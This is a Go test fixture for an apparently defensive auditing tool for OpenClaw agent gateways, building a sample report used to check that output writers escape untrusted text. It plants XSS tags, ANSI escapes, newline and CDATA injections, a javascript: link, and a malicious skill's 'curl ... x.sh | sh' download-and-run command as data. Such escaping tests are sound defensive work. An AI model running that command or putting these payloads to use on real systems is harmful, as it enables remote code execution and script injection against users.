package output

import (
	"os"
	"testing"
	"time"

	"github.com/clawgov/clawgov/internal/catalog"
	"github.com/clawgov/clawgov/internal/finding"
	"github.com/clawgov/clawgov/internal/report"
)

// Hostile strings planted in the fixture. Every writer must neutralise them
// for its medium; the escaping tests look for these exact raw forms.
const (
	hostileScript = `<script>alert("pwned")</script>`
	hostileImg    = `<img src=x onerror=alert(1)>`
	hostileANSI   = "\x1b[31mRED\x1b[0m"
	hostilePipe   = "a | b | c"
	hostileNL     = "line one\nINJECTED LINE"
	hostileCDATA  = "]]><evil/>"
	fixtureSecret = "sk-live-0123456789abcdefSECRET"
)

// testCatalog loads the small, fixed catalog in testdata/catalog so the
// goldens do not move whenever the live embedded catalog grows.
func testCatalog(t testing.TB) *catalog.Catalog {
	t.Helper()
	cat, err := catalog.Load(os.DirFS("testdata/catalog"))
	if err != nil {
		t.Fatalf("load test catalog: %v", err)
	}
	return cat
}

// fixtureReport is the canonical report every writer renders for the
// goldens. It covers every control status (pass, warn, fail, manual,
// error), a skipped check, findings with and without file evidence, a run
// error, and hostile text in every place untrusted input can reach.
func fixtureReport(t testing.TB, lang catalog.Lang) *report.Report {
	t.Helper()
	r, err := report.Build(testCatalog(t), fixtureInput(lang))
	if err != nil {
		t.Fatalf("build fixture report: %v", err)
	}
	return r
}

// fixtureInput is the canonical audit input every golden starts from.
func fixtureInput(lang catalog.Lang) report.Input {
	in := report.Input{
		Kind:      "audit",
		Tool:      report.Tool{Name: "clawgov", Version: "dev"},
		Now:       time.Date(2026, 3, 15, 8, 30, 0, 0, time.UTC),
		Lang:      lang,
		ProfileID: "miit-2026",
		// The auditor's data is old and the target is a disk image: both
		// report-level notices render in every format.
		Data: &report.DataInfo{
			Advisories: &report.DataSet{Date: "2025-11-01", Source: "embedded database", AgeDays: 134, Stale: true},
			Releases:   &report.DataSet{Date: "2026-03-01", Source: "embedded openclaw release table", AgeDays: 14},
			MinVersion: "2026.1.0",
		},
		Target: report.Target{
			Host:       "gw-01.example",
			Rootfs:     "/mnt/img",
			StateDir:   "/home/claw/.openclaw",
			ConfigPath: "/home/claw/.openclaw/openclaw.json",
			OpenClaw: report.OpenClawInfo{
				Version: "2026.1.2",
				Package: "openclaw",
				Source:  "package.json",
				Path:    "/usr/lib/node_modules/openclaw",
				Channel: "stable",
			},
		},
		Ran: []string{"CG-VER-001", "CG-UPD-001", "CG-NET-001", "CG-PRIV-001", "CG-PRIV-002",
			"CG-SKILL-001", "CG-SKILL-002", "CG-BRW-001", "CG-LOG-001", "CG-INST-001"},
		Findings: []finding.Finding{
			{
				CheckID: "CG-VER-001", Severity: finding.High, Status: finding.Fail,
				MessageKey: "affected",
				Params:     map[string]string{"version": "2026.1.2", "advisory": "GHSA-demo-0001", "fixed": "2026.2.0"},
				Evidence: []finding.Evidence{{
					Kind: "package", File: "/usr/lib/node_modules/openclaw/package.json", KeyPath: "version", Line: 3, Value: "2026.1.2",
				}},
				MatchKey: "GHSA-demo-0001",
			},
			{
				CheckID: "CG-NET-001", Severity: finding.Critical, Status: finding.Fail,
				MessageKey: "bind",
				Params:     map[string]string{"bind": "0.0.0.0", "port": "18789", "auth": "none"},
				Evidence: []finding.Evidence{
					{Kind: "config", File: "/home/claw/.openclaw/openclaw.json", KeyPath: "gateway.bind", Line: 12, Value: "0.0.0.0"},
					{Kind: "config", File: "/home/claw/.openclaw/openclaw.json", KeyPath: "gateway.auth.token", Line: 14,
						Value: finding.Redact(fixtureSecret), Detail: "token set in file but auth.mode is none"},
				},
			},
			{
				CheckID: "CG-PRIV-002", Severity: finding.Medium, Status: finding.Warn,
				MessageKey: "approvals", Params: map[string]string{"mode": "off"},
				Evidence: []finding.Evidence{{Kind: "config", KeyPath: "tools.exec.approvals", Value: "off"}},
			},
			{
				// Free text from a skill: every hostile form at once.
				CheckID: "CG-SKILL-001", Severity: finding.Critical, Status: finding.Fail,
				Target:     "evil-skill " + hostileImg,
				MessageKey: "download_exec",
				Params: map[string]string{
					"skill":   "evil-skill",
					"snippet": "curl -fsSL http://203.0.113.9/x.sh " + hostilePipe + " sh " + hostileScript + " " + hostileANSI + " " + hostileNL,
				},
				Evidence: []finding.Evidence{{
					Kind: "skill", File: "/home/claw/.openclaw/skills/evil-skill/SKILL.md", Line: 7,
					Value:  "curl http://203.0.113.9/x.sh | sh " + hostileCDATA,
					Detail: "-->" + hostileScript + "`backticks` **bold** [link](javascript:alert(1))",
				}},
				MatchKey: "download_exec",
			},
			{
				CheckID: "CG-SKILL-002", Severity: finding.Low, Status: finding.Warn,
				Target:  "weather|<b>bold</b>",
				Message: "publisher \"unknown\" is not verified | see ClawHub",
				Evidence: []finding.Evidence{{
					Kind: "skill", File: "/home/claw/.openclaw/skills/weather/SKILL.md",
				}},
			},
			{
				CheckID: "CG-BRW-001", Severity: finding.Medium, Status: finding.Manual,
				Message: "browser.enabled is true; no egress allowlist is visible to clawgov",
				Evidence: []finding.Evidence{{
					Kind: "config", File: "/home/claw/.openclaw/openclaw.json", KeyPath: "browser.enabled", Line: 40, Value: "true",
				}},
			},
		},
		Errors: []report.RunError{{
			Source:  "probe",
			Message: "banner from 127.0.0.1:18789 was " + hostileScript + " " + hostileANSI + " " + hostileNL,
			Checks:  []string{"CG-NET-002"},
		}},
	}
	return in
}
